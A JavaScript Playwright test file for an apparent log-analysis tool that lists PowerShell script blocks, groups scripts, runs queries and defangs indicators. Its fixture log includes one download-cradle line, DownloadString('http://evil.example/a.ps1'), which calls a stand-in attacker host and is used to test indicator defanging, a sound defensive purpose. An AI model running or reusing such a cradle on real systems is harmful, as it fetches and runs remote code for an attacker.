// The lists of all script blocks, the same scripts and indicators: texts are read again from the files.

import assert from "node:assert/strict";
import { test } from "node:test";
import { eventsXml } from "../../scripts/events.mjs";
import { zip } from "../support/archives.mjs";
import { choose, ended, eventually, file, open, standIn, texts, until } from "./support.mjs";

const minute = (/** @type {number} */ at) => `2026-08-08T06:${String(at).padStart(2, "0")}:00.0000000Z`;

const log = eventsXml([
  ...Array.from({ length: 20 }, (_, i) => ({ text: `Get-Thing ${i}`, time: minute(i), computer: "WS17.corp.example" })),
  { text: "# cradle\r\nDownloadString('http://evil.example/a.ps1')", time: minute(20), computer: "WS17.corp.example" },
  { text: "Get-Thing 3", time: minute(21), computer: "FS03.corp.example" },
]);

/** @param {import("playwright-core").Page} page @param {string} wanted */
const detailSays = (page, wanted) =>
  until(
    page,
    `the script block shows ${wanted}`,
    (one) => document.querySelector("scope-script > .text")?.textContent?.includes(one),
    { argument: wanted },
  );

test("every script block is listed, with its first line, its text and what ran before and after", async () => {
  const { page, errors } = await open(standIn(), { view: "blocks" });
  await choose(page, file("log.xml", log));
  await ended(page);
  await until(page, "all are counted", () =>
    document.querySelector(".n-of-n")?.textContent?.startsWith("22 of 22 script blocks"),
  );
  await page.locator("scope-blocks td.line", { hasText: "Get-Thing 4" }).click();
  await detailSays(page, "Get-Thing 4");
  await eventually(async () =>
    assert.match((await texts(page, "scope-detail .near li")).join("\n"), /Get-Thing 3[^]*Get-Thing 4[^]*Get-Thing 5/),
  );
  await page.keyboard.press("]");
  await detailSays(page, "Get-Thing 5");
  await page.keyboard.press("[");
  await page.keyboard.press("[");
  await detailSays(page, "Get-Thing 3");
  await eventually(async () =>
    assert.match((await texts(page, "scope-detail .facts")).join(), /this very text on 2 computers/),
  );
  await page.getByRole("button", { name: "its blocks" }).click();
  await until(page, "two are left", () => document.querySelector(".n-of-n")?.textContent?.startsWith("2 of 22"));
  await eventually(async () => assert.match((await texts(page, "scope-chips .chip"))[0] ?? "", /this very text/));
  await page.getByLabel("Which script blocks").selectOption("matched");
  await page.locator("scope-blocks .empty", { hasText: "No script block fits" }).waitFor();
  assert.deepEqual(errors, []);
});

test("texts inside of archives are read again too", async () => {
  const { page, errors } = await open(standIn(), { view: "blocks" });
  const packed = Buffer.from(await zip({ "in/log.xml": log }, {}));
  await choose(page, file("logs.zip", packed));
  await ended(page);
  await page.locator("scope-blocks td.line", { hasText: "Get-Thing 7" }).click();
  await detailSays(page, "Get-Thing 7");
  assert.deepEqual(errors, []);
});

test("scripts are grouped, rarest first, and open into their blocks", async () => {
  const { page } = await open(standIn(), { view: "scripts" });
  await choose(page, file("log.xml", log));
  await ended(page);
  await until(page, "all are counted", () => document.querySelector(".n-of-n")?.textContent?.startsWith("21 of 21"));
  await page.keyboard.press("j");
  await detailSays(page, "Get-Thing 0");
  await page.getByRole("button", { name: "show 1 script block" }).click();
  await until(page, "its block is listed", () => document.querySelector(".n-of-n")?.textContent?.startsWith("1 of 22"));
});

test("indicators are defanged, and open where they were found", async () => {
  const { page } = await open(standIn(), { view: "indicators" });
  await choose(page, file("log.xml", log));
  await ended(page);
  const row = page.locator("scope-indicators td.line").first();
  await row.waitFor();
  await eventually(async () => assert.match(await row.innerText(), /hxxp:\/\/evil\[\.\]example\/a\[\.\]ps1/));
  await eventually(async () =>
    assert.match((await texts(page, "scope-indicators .note"))[0] ?? "", /left out: 1 documentation range/),
  );
  await row.click();
  await detailSays(page, "DownloadString");
  await until(page, "it is found in the text", () =>
    document.querySelector("scope-script .found")?.textContent?.startsWith("1 of 1"),
  );
  await page.getByRole("button", { name: "defanged" }).click();
  await eventually(async () => assert.match(await row.innerText(), /http:\/\/evil\.example/));
});

test("of twenty thousand script blocks only those in view are in the document", async () => {
  const { page, errors } = await open(standIn(), { view: "blocks" });
  await choose(page, file("many.json", '{"results": 20000}'));
  await ended(page);
  await until(page, "all are counted", () =>
    document.querySelector(".n-of-n")?.textContent?.startsWith("20,000 of 20,000"),
  );
  await page.locator("scope-blocks tbody tr").first().waitFor();
  await page.locator("scope-blocks .scroller").evaluate((one) => (one.scrollTop = one.scrollHeight));
  await until(page, "the last row is drawn", () =>
    [...document.querySelectorAll("scope-blocks tbody tr")].some(
      (row) => row.getAttribute("aria-rowindex") === "20001",
    ),
  );
  await eventually(async () => assert.ok((await page.locator("scope-blocks tbody tr").count()) < 100));
  assert.deepEqual(errors, []);
});

test("a query searches every script block, and says under a caret why it cannot run", async () => {
  const { page, errors } = await open(standIn(), { view: "story" });
  await choose(page, file("log.xml", log));
  await ended(page);
  await page.keyboard.press("/");
  await page.keyboard.type("Get-Thing 1");
  await page.keyboard.press("Enter");
  await until(page, "the rows are counted", () =>
    /^11 of 22/.test(document.querySelector("scope-bar .query button")?.textContent ?? ""),
  );
  await until(page, "its view is shown", () => document.querySelector("scope-query:not([hidden]) tbody tr") !== null);
  await eventually(async () =>
    assert.match((await texts(page, "scope-query header")).join(), /11 of 22 script blocks/),
  );
  await page.locator("scope-query tbody tr").first().click();
  await detailSays(page, "Get-Thing 1");
  await eventually(async () =>
    assert.doesNotMatch(await page.evaluate(() => decodeURIComponent(location.hash)), /Get-Thing/),
  );
  await page.locator("#search").fill("Get-Thing | stat count");
  await page.keyboard.press("Enter");
  await page.locator(".query-fault", { hasText: "did you mean stats?" }).waitFor();
  await page.locator("#search").fill("");
  await until(page, "the query is closed", () => document.querySelector("#tab-query") === null);
  assert.deepEqual(errors, []);
});

test("the focus stays near where the element that had it goes", async () => {
  const { page, errors } = await open(standIn(), { view: "blocks" });
  await choose(page, file("log.xml", log));
  await ended(page);
  const focused = (/** @type {string} */ selector) =>
    until(page, `${selector} has the focus`, (one) => document.activeElement?.matches(one), { argument: selector });
  await focused("#tab-blocks");
  await page.keyboard.press("?");
  await focused("#keys");
  await page.keyboard.press("Escape");
  await page.locator("scope-risk .row").first().press("Enter");
  await page.locator("scope-chips .chip").first().press("Enter");
  await focused("#tab-blocks");
  await page.getByLabel("Which script blocks").selectOption("matched");
  await page.keyboard.press("/");
  await page.keyboard.type("no such thing");
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: "close the query" }).press("Enter");
  await focused("[role=tab][aria-selected=true]");
  assert.deepEqual(errors, []);
});
